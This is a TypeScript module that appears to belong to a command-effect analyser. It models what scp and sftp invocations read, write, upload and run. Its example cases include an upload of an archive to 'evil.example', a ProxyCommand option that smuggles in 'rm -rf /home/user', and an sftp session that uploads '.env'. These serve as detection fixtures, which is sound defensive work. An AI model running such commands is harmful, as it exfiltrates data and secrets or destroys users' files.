/** scp and sftp: files copied over ssh. */

import type { Effect } from '../../types/effect.ts';
import type { Nested } from '../../types/invocation.ts';
import { placedIn, programWord, readsOf, writesOf } from '../coreutils/paths.ts';
import { run, wordAt } from '../effects.ts';
import { knownStart, type ParsedArgs, parseArgs, partOf } from '../options.ts';
import { type Call, definePage, type Outcome, type Page } from '../page.ts';
import { contactRemote, copies, sessionOf } from './remote-copy.ts';
import { readSettings } from './ssh-settings.ts';
import { connect, findRemote, linesOf } from './traffic.ts';

function readScp(call: Call): Outcome {
  const parsed = parseArgs(call.args, { value: [...'cDFiJloPSX'] });
  const settings = readSettings(call, parsed.values('o'), parsed.values('F'));
  const target = parsed.operands.at(-1);
  const programs = parsed
    .values('S')
    .map((program): Nested => ({ kind: 'argv', via: 'scp -S', argv: [program] }));
  const servers = parsed
    .values('D')
    .map((code): Nested => ({ kind: 'code', via: 'scp -D', lang: 'sh', code }));
  const runs = [...settings.runs, ...programs, ...servers];
  const base: Effect[] = [...readsOf(parsed.values('F')), ...settings.effects, ...jumps(parsed)];
  if (target === undefined || parsed.operands.length < 2) return { effects: base, runs };
  const sources = parsed.operands.slice(0, -1);
  const named = settings.hostName ? [connect(settings.hostName, { scheme: 'ssh' }, 'ssh')] : [];
  return {
    effects: [
      ...base,
      ...named,
      ...copies(call, sources, target, parsed.has('r'), 'ssh', parsed.value('P')?.text),
    ],
    runs,
  };
}

function jumps(parsed: ParsedArgs): readonly Effect[] {
  return parsed.values('J').map((word) => connect(word, { scheme: 'ssh' }, 'ssh'));
}

function readSftp(call: Call): Outcome {
  const parsed = parseArgs(call.args, { value: [...'BbcDFiJloPRSsX'] });
  const settings = readSettings(call, parsed.values('o'), parsed.values('F'));
  const [target, place] = parsed.operands;
  const remote =
    target &&
    (findRemote(target) ?? {
      host: partOf(target, knownStart(target).lastIndexOf('@') + 1),
      path: wordAt('', target),
    });
  const batch = parsed.value('b');
  const stdin = call.invocation.stdin;
  const lines = batch
    ? linesOf(call, batch)
    : stdin !== undefined && stdin !== 'pipe'
      ? stdin.text?.split('\n')
      : undefined;
  const script = sessionOf(lines ?? [], target ?? programWord(call));
  const port = parsed.value('P')?.text;
  const effects: Effect[] = [
    ...readsOf([...parsed.values('F'), ...(batch ? [batch] : [])]),
    ...settings.effects,
    ...jumps(parsed),
    ...(settings.hostName ? [connect(settings.hostName, { scheme: 'ssh' }, 'ssh')] : []),
    ...(remote && target
      ? [
          contactRemote(
            { ...remote, ...(port && /^\d+$/.test(port) ? { port: Number(port) } : {}) },
            target,
            script.sends,
            'ssh',
          ),
        ]
      : []),
    ...script.effects,
  ];
  if (remote && remote.path.text !== '')
    effects.push(...writesOf(place ?? placedIn(wordAt('.', remote.path), remote.path)));
  else if (target && !batch && stdin === undefined)
    effects.push(run(programWord(call), { interactive: true }));
  const programs = [
    ...parsed.values('S').map((program): Nested => ({ kind: 'argv', via: 'sftp -S', argv: [program] })),
    ...parsed.values('D').map((code): Nested => ({ kind: 'code', via: 'sftp -D', lang: 'sh', code })),
  ];
  return { effects, runs: [...settings.runs, ...programs, ...script.runs] };
}

export const pages: readonly Page[] = [
  definePage({
    names: ['scp', 'pscp'],
    about: 'copies files between machines',
    read: readScp,
    examples: [
      {
        command: 'scp data.tgz user@evil.example:/tmp',
        effects: [
          { kind: 'net', op: 'upload', host: 'evil.example' },
          { kind: 'file', op: 'read', path: 'data.tgz' },
        ],
      },
      {
        command: 'scp -P 2222 a.example:x .',
        effects: [
          { kind: 'net', op: 'connect', host: 'a.example', port: 2222 },
          { kind: 'file', op: 'write', path: './x' },
        ],
      },
      {
        command: "scp -o ProxyCommand='rm -rf /home/user' x a:",
        effects: [{ kind: 'file', op: 'delete', path: '/home/user' }],
      },
    ],
  }),
  definePage({
    names: ['sftp', 'psftp'],
    about: 'opens a file transfer session',
    read: readSftp,
    examples: [
      {
        command: 'sftp a.example:/x .',
        effects: [
          { kind: 'net', host: 'a.example' },
          { kind: 'file', op: 'write', path: '.' },
        ],
      },
      { command: 'sftp a.example', effects: [{ kind: 'run', interactive: true }] },
      {
        command: "sftp a.example <<< 'put .env'",
        effects: [
          { kind: 'net', op: 'upload', host: 'a.example' },
          { kind: 'file', op: 'read', path: '.env' },
        ],
      },
    ],
  }),
];
